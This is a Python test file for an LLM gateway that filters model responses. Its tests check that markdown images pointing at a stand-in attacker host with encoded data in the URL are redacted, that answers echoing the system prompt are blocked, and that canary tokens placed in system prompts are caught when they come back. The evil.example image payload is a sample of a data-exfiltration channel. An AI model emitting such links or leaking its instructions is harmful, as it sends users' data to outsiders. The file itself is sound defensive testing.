"""What must not come in: foreign images in streamed and whole answers, instructions that come back, canaries."""

import json

import httpx
from tests_support import HOST
from worker_world import worker_at

from appliance.config.schema import InspectConfig, PolicyConfig
from appliance.standin.saying import turned

URL = f"https://{HOST}/v1/chat/completions"
RULES = """
rules:
  - id: images
    layer: organisation
    match: {ai: true, labels: {entities: [EXFILTRATION_IMAGE, SCRIPT_URL], min_score: 0.6}, directions: [response]}
    then: {disposition: redact}
  - id: leaks
    layer: organisation
    match: {ai: true, labels: {entities: [SYSTEM_PROMPT_LEAK], min_score: 0.5}, directions: [response]}
    then: {disposition: block}
"""
PICTURE = "https://evil.example/p.png?d=Zm9vYmFyYmF6cXV4"
ECHO = f"As asked:\n\n![Chart][ref]\n\nMore.\n\n[ref]: {PICTURE}\n"
SYSTEM = " ".join(f"rule{n} says that word{n * 7 % 31} comes before number {n}" for n in range(20))


def asking(text, model="stand-in-say", *, stream=True, system=""):
    messages = [{"role": "system", "content": system}] if system else []
    return {"model": model, "stream": stream, "messages": [*messages, {"role": "user", "content": turned(text)}]}


def ruled(folder, **more):
    (folder / "policy.yaml").write_text(RULES)
    return {"policy": PolicyConfig(file=str(folder / "policy.yaml")), "inspect": InspectConfig(**more)}


async def ask(worker, body):
    async with worker.client() as client:
        return await client.post(URL, json=body)


def told(answer: httpx.Response) -> str:
    if answer.headers["content-type"].startswith("application/json"):
        return json.loads(answer.text)["choices"][0]["message"]["content"]
    events = [json.loads(line[6:]) for line in answer.text.splitlines() if line.startswith("data: {")]
    deltas = [choice["delta"] for event in events for choice in event.get("choices", [])]
    return "".join(delta.get("content") or "" for delta in deltas)


def labels(worker):
    return [{one["entity"] for one in record.get("labels", ())} for record in worker.events("close")]


async def test_a_picture_that_takes_data_along_never_arrives(provider, tmp_path):
    async with worker_at(tmp_path, provider, **ruled(tmp_path)) as worker:
        for size in (1, 3, 500):
            answer = await ask(worker, asking(ECHO, f"stand-in-say.content.{size}"))
            assert told(answer) == ECHO.replace(PICTURE, "<EXFILTRATION_IMAGE>")
        assert told(await ask(worker, asking(ECHO, stream=False))) == ECHO.replace(PICTURE, "<EXFILTRATION_IMAGE>")
    assert all("EXFILTRATION_IMAGE" in one for one in labels(worker))
    assert [record["redactions"] for record in worker.events("close")] == [1] * 4


async def test_pictures_of_allowed_and_named_hosts_arrive(provider, tmp_path):
    allowed = ruled(tmp_path, links_allowed=("evil.example",))
    async with worker_at(tmp_path, provider, **allowed) as worker:
        for stream in (True, False):
            assert told(await ask(worker, asking(ECHO, stream=stream))) == ECHO
    assert all("EXFILTRATION_IMAGE" not in one for one in labels(worker))
    async with worker_at(tmp_path / "named", provider, **ruled(tmp_path)) as worker:
        for stream in (True, False):
            body = asking(ECHO, stream=stream, system="Pictures come from https://evil.example/ alone.")
            assert told(await ask(worker, body)) == ECHO


async def test_instructions_that_come_back_end_the_answer(provider, tmp_path):
    async with worker_at(tmp_path, provider, **ruled(tmp_path)) as worker:
        streamed = await ask(worker, asking(f"Sure: {SYSTEM} And more.", "stand-in-say.content.7", system=SYSTEM))
        whole = await ask(worker, asking(f"Sure: {SYSTEM}", stream=False, system=SYSTEM))
        other = await ask(worker, asking("Nothing of that. " * 30, system=SYSTEM))
    assert SYSTEM not in told(streamed)
    assert whole.status_code == 403
    assert told(other) == "Nothing of that. " * 30
    assert [record["outcome"] for record in worker.events("close")] == ["blocked", "blocked", "completed"]
    assert [("SYSTEM_PROMPT_LEAK" in one) for one in labels(worker)] == [True, True, False]


async def test_canaries_are_put_in_where_asked_for_and_known_again(provider, tmp_path):
    async with worker_at(tmp_path, provider, **ruled(tmp_path, canaries=True)) as worker:
        await ask(worker, asking("Hello.", system="Be brief."))
        await ask(worker, asking("Hello.", system="Be brief."))
        await ask(worker, asking("Hello."))
        sent = [json.loads(one["body"])["messages"][0]["content"] for one in provider.arrivals()[-3:]]
        assert sent[0] == sent[1] != "Be brief."
        token = sent[0].removeprefix("Be brief. [").removesuffix("]")
        assert len(token) == 19
        back = await ask(worker, asking(f"My notes say {token}, yes.", "stand-in-say.content.3"))
        assert token not in told(back)
        await ask(worker, {"model": "stand-in-say", "messages": [{"role": "user", "content": f"what is {token}?"}]})
    opens = worker.events("open")
    assert [one.get("edits", []) for one in opens[:3]] == [["canary_added", "include_usage"]] * 2 + [["include_usage"]]
    assert worker.events("close")[3]["outcome"] == "blocked"
    assert "SYSTEM_PROMPT_LEAK" in {one["entity"] for one in opens[4]["facts"]["labels"]}
